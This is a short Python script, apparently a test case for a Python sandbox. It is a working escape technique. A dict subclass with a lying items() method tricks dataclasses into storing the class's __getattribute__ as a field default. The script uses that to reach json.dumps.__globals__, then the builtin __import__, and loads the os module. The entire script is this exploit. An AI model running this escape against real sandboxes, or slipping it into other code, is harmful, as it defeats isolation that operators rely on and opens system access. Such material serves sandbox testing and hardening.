# technique: type() namespace sets __annotations__ to a dict subclass whose items() lies: the wrapper checks dict(ann), dataclasses iterates ann.items() and reads getattr(cls, '__getattribute__') as a field default, left in __dataclass_fields__ after the refusal
# expect: any
import dataclasses, json
class Ann(dict):
    def items(self):
        return [("__getattribute__", int)]
C = type("C", (), {"__annotations__": Ann(x=int), "__doc__": "d", "__module__": "__main__"})
try:
    dataclasses.dataclass(C)
except BaseException as e:
    print("dataclass() refused late:", type(e).__name__, e)
ga = C.__dataclass_fields__["__getattribute__"].default
print(ga)
g = ga(json.dumps, "__globals__")
os_mod = g["__builtins__"]["__import__"]("os")
print(type(g), sorted(g)[:4], os_mod, os_mod.getpid())
